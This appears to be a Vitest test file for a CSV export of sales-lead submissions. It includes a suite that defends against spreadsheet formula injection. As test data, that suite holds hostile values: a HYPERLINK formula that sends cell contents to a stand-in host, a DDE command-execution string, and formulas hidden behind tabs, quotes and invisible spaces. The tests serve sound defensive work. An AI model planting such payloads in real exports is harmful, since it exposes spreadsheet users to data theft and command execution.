import { describe, expect, it } from 'vitest';
import type { Lead } from '@/data/leads';
import { csvField, UTF8_BOM } from '@/lib/csv';
import { buildSubmissionsCsv, csvFileName } from './submissions-csv';

const TZ = 'America/Mexico_City';

function submission(overrides: Partial<Lead> = {}): Lead {
  return {
    id: 'id-1',
    fullName: 'José Núñez',
    clientType: 'Empresa',
    corporateEmail: 'jose@empresa.mx',
    phone: '9841234567',
    serviceType: 'Renta',
    equipmentQuantity: '1-10',
    company: 'Cafetería Ñandú',
    state: 'Querétaro',
    message: '',
    recaptcha: true,
    submittedAt: '2026-03-02T15:04:00.000Z',
    status: 'Nuevo',
    statusChangedAt: null,
    statusChangedBy: null,
    latestNote: null,
    notified: true,
    notifiedAt: null,
    notifiedVia: null,
    anonymized: null,
    wonMonthlyMxn: null,
    wonEquipment: '',
    lostReason: null,
    lostDetail: '',
    attribution: null,
    owner: null,
    firstResponseDueAt: null,
    firstResponseAt: null,
    nextActionAt: null,
    duplicateLeadIds: [],
    duplicateUserIds: [],
    mergedInto: null,
    ...overrides,
  };
}

/** Splits the CSV (without BOM) into rows of raw field texts; quoted fields may hold commas and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

describe('buildSubmissionsCsv', () => {
  it('starts with the UTF-8 BOM (EF BB BF once encoded)', () => {
    const csv = buildSubmissionsCsv([submission()], TZ);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has a Spanish header row and one CRLF-terminated row per request', () => {
    const csv = buildSubmissionsCsv([submission(), submission({ id: 'id-2' })], TZ);
    expect(csv.slice(1).split('\r\n')[0]).toBe(
      '"Fecha","Nombre completo","Tipo de cliente","Correo corporativo","Teléfono","Servicio","Cantidad de equipos","Empresa","Estado","Mensaje","Fecha (ISO)","ID","Etapa","Última nota","Origen (primera visita)","Origen (última visita)"',
    );
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv.slice(1))).toHaveLength(3);
  });

  it('keeps accents and ñ as they are and writes every field', () => {
    const rows = parseCsv(
      buildSubmissionsCsv(
        [
          submission({
            message: 'Cotización para 3 sucursales',
            status: 'Cotizado',
            latestNote: {
              text: 'Enviamos la propuesta, llamar el lunes',
              authorEmail: 'admin@demo.test',
              createdAt: '2026-03-03T10:00:00.000Z',
              kind: 'Nota',
              at: null,
            },
          }),
        ],
        TZ,
      ).slice(1),
    );
    // es-MX puts (narrow) no-break spaces before "a.m."; compare with plain spaces.
    const row = rows[1]?.map((field) => field.replace(/[\u00a0\u202f]/g, ' '));
    expect(row).toEqual([
      '2 mar 2026, 9:04 a.m.',
      'José Núñez',
      'Empresa',
      'jose@empresa.mx',
      '9841234567',
      'Renta',
      '1 a 10',
      'Cafetería Ñandú',
      'Querétaro',
      'Cotización para 3 sucursales',
      '2026-03-02T15:04:00.000Z',
      'id-1',
      'Cotizado',
      'Enviamos la propuesta, llamar el lunes',
      '',
      '',
    ]);
  });

  it('writes where the visit came from, first and latest touch', () => {
    const touch = {
      source: '',
      medium: '',
      campaign: '',
      term: '',
      content: '',
      gclid: '',
      fbclid: '',
      referrer: '',
      landingPath: '/',
      at: '2026-03-01T10:00:00.000Z',
    };
    const rows = parseCsv(
      buildSubmissionsCsv(
        [
          submission({
            attribution: {
              first: { ...touch, referrer: 'www.facebook.com' },
              last: {
                ...touch,
                source: 'google',
                medium: 'cpc',
                campaign: 'renta-impresoras',
                gclid: 'abc',
                landingPath: '/business-lines',
              },
            },
          }),
        ],
        TZ,
      ).slice(1),
    );
    expect(rows[1]?.slice(-2)).toEqual([
      'desde www.facebook.com, entró por /',
      'google / cpc, campaña «renta-impresoras», clic en un anuncio de Google, entró por /business-lines',
    ]);
  });

  it('leaves "Última nota" empty for a lead without notes', () => {
    const rows = parseCsv(buildSubmissionsCsv([submission({ status: 'Nuevo' })], TZ).slice(1));
    expect(rows[1]?.slice(-4)).toEqual(['Nuevo', '', '', '']);
  });

  it('quotes commas, quotes and line breaks so each request stays one row', () => {
    const tricky = submission({
      fullName: 'Pérez, Ana "La Jefa"',
      company: 'Hoteles del Caribe, S.A. de C.V.',
      message: 'Primera línea\nSegunda línea, con coma',
      clientType: 'Persona física con actividad empresarial',
    });
    const csv = buildSubmissionsCsv([tricky], TZ);
    expect(csv).toContain('"Pérez, Ana ""La Jefa"""');
    expect(csv).toContain('"Hoteles del Caribe, S.A. de C.V."');
    expect(csv).toContain('"Primera línea\nSegunda línea, con coma"');
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[1]).toBe('Pérez, Ana "La Jefa"');
    expect(rows[1]?.[9]).toBe('Primera línea\nSegunda línea, con coma');
  });

  it('orders the rows newest first whatever the input order', () => {
    const csv = buildSubmissionsCsv(
      [
        submission({ id: 'vieja', submittedAt: '2026-01-05T10:00:00.000Z' }),
        submission({ id: 'nueva', submittedAt: '2026-03-01T10:00:00.000Z' }),
        submission({ id: 'media', submittedAt: '2026-02-10T10:00:00.000Z' }),
      ],
      TZ,
    );
    expect(
      parseCsv(csv.slice(1))
        .slice(1)
        .map((row) => row[11]),
    ).toEqual(['nueva', 'media', 'vieja']);
  });

  it('writes the equipment bands in words so spreadsheets do not turn them into dates or numbers', () => {
    const csv = buildSubmissionsCsv(
      [
        submission({ equipmentQuantity: '11-50' }),
        submission({ equipmentQuantity: '+50', submittedAt: '2026-03-03T00:00:00.000Z' }),
      ],
      TZ,
    );
    const rows = parseCsv(csv.slice(1));
    expect(rows.slice(1).map((row) => row[6])).toEqual(['Más de 50', '11 a 50']);
  });

  it('is only the header for no requests', () => {
    expect(parseCsv(buildSubmissionsCsv([], TZ).slice(1))).toHaveLength(1);
  });
});

describe('csvField', () => {
  it('quotes every field and doubles inner quotes, leaving plain text as it is', () => {
    expect(csvField('Quintana Roo')).toBe('"Quintana Roo"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('di "hola"')).toBe('"di ""hola"""');
    expect(csvField(' espacio')).toBe('" espacio"');
    expect(csvField('')).toBe('""');
  });

  it('defuses texts a spreadsheet would run as formulas', () => {
    expect(csvField('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
    expect(csvField('+52 984')).toBe(`"'+52 984"`);
    expect(csvField('+529981112233')).toBe(`"'+529981112233"`);
    expect(csvField('-1')).toBe(`"'-1"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField(' =1+1')).toBe(`" '=1+1"`);
    expect(csvField('\n=1+1')).toBe(`"\n'=1+1"`);
    expect(csvField('x;=1+1')).toBe(`"x;'=1+1"`);
    expect(csvField('\tfoo')).toBe(`"'\tfoo"`);
    expect(csvField('\rfoo')).toBe(`"'\rfoo"`);
  });

  it('leaves = + - @ alone where no cell can start', () => {
    expect(csvField('ana@empresa.mx')).toBe('"ana@empresa.mx"');
    expect(csvField('2+2 equipos, 1-10')).toBe('"2+2 equipos, 1-10"');
  });
});

/**
 * The cells a spreadsheet could see in one CSV line, split on `delimiter` in three ways:
 * - "rfc": quotes open and close anywhere, "" inside quotes is one quote (RFC 4180, Excel);
 * - "start": a quote counts only at the start of a cell, elsewhere it is plain text (lenient
 *   readers that take a cell after a closing quote as literal text);
 * - "none": quotes are ignored altogether.
 */
function cells(line: string, delimiter: string, mode: 'rfc' | 'start' | 'none'): string[] {
  if (mode === 'none') return line.split(delimiter);
  const out: string[] = [];
  let field = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < line.length; i += 1) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && (mode === 'rfc' || atStart)) {
      quoted = true;
      atStart = false;
    } else if (c === delimiter) {
      out.push(field);
      field = '';
      atStart = true;
    } else {
      field += c;
      atStart = false;
    }
  }
  out.push(field);
  return out;
}

/** A cell that a spreadsheet would take as a formula once blanks, controls and quotes are skipped. */
const formulaCell = (cell: string) => /^[\s\p{Z}\p{Cc}\p{Cf}"]*[=+\-@]/u.test(cell);

describe('CSV formula injection', () => {
  const attacks: Array<[string, Partial<Lead>]> = [
    ['company x;=1+1', { company: 'x;=1+1' }],
    ['company x;=HYPERLINK', { company: 'x;=HYPERLINK("http://malo.mx/?d="&A1;"Clic")' }],
    ['DDE after a semicolon', { company: "ACME;=cmd|' /C calc'!A0" }],
    ['a leading space', { company: ' =1+1' }],
    ['a leading line break', { message: '\n=1+1' }],
    ['a leading tab and @', { message: '\t@SUM(A1)' }],
    ['a tab inside', { message: 'hola\t=1+1' }],
    ['a comma then a space', { message: 'hola, -1+1' }],
    ['a quote first', { fullName: '"=1+1"' }],
    ['a semicolon then a quote', { company: 'x;"=1+1' }],
    ['a no-break space first', { fullName: '\u00a0+1' }],
    ['a zero-width space first', { fullName: '\u200b@SUM(A1)' }],
  ];

  it.each(attacks)('%s: no cell starts a formula, whatever the separator', (_, overrides) => {
    const csv = buildSubmissionsCsv([submission(overrides)], TZ);
    // The line breaks inside quoted fields stay: a reader that ignores quotes splits rows there.
    const text = csv.slice(1);
    for (const delimiter of [',', ';', '\t']) {
      for (const mode of ['rfc', 'start', 'none'] as const) {
        for (const line of text.split(/\r\n|\n|\r/)) {
          const bad = cells(line, delimiter, mode).filter(formulaCell);
          expect(bad, `${JSON.stringify(delimiter)} ${mode}: ${line}`).toEqual([]);
        }
      }
    }
  });

  it('keeps the text readable: the value read back is the value with an apostrophe', () => {
    const rows = parseCsv(
      buildSubmissionsCsv(
        [
          submission({
            company: 'x;=1+1',
            fullName: 'Ana "La Jefa" López',
            phone: '+529981112233',
          }),
        ],
        TZ,
      ).slice(1),
    );
    expect(rows[1]?.[1]).toBe('Ana "La Jefa" López');
    expect(rows[1]?.[4]).toBe("'+529981112233");
    expect(rows[1]?.[7]).toBe("x;'=1+1");
  });
});

describe('csvFileName', () => {
  it('is solicitudes-YYYY-MM-DD.csv with the date in Cancún', () => {
    // 23:59 and 0:00 in Cancún (UTC-5).
    expect(csvFileName(new Date('2026-03-03T04:59:00Z'))).toBe('solicitudes-2026-03-02.csv');
    expect(csvFileName(new Date('2026-12-31T05:00:00Z'))).toBe('solicitudes-2026-12-31.csv');
  });
});
